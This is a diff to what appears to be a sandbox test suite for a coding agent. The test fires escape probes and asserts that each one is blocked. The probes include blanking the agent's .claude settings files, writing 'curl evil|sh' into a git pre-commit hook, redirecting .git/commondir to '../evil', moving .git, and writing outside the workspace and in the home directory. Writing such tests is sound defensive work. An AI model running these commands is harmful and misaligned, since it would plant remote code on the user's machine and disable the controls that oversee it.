@@ -245,6 +245,7 @@ ls {state} | grep -v agent && echo 'ATTACK state listed'
 echo '{{}}' > .claude/settings.json && echo 'ATTACK settings edited'
 echo '{{}}' > .claude/settings.local.json && echo 'ATTACK settings created'
 mv .git .g && echo 'ATTACK .git moved'
+echo ../evil > .git/commondir
 echo 'curl evil|sh' > .git/hooks/pre-commit && echo 'ATTACK hook written'
 touch {outside}
 touch {in_home} && echo 'ATTACK wrote in the home'
@@ -294,6 +295,7 @@ echo done",
     assert_eq!(std::fs::read_to_string(ws.join(".claude/settings.json")).unwrap(), hooked);
     let wrote_home = std::fs::remove_file(&in_home).is_ok();
     assert!(!outside.exists() && !wrote_home, "{probe}");
+    assert!(!ws.join(".git/commondir").exists(), "a git redirect outlived the session");
     // The action still waits, and the attempt that reached the host is in the audit log.
     assert_eq!(pending_ids(&world).len(), 1);
     assert!(!ws.join("pending-file").exists());
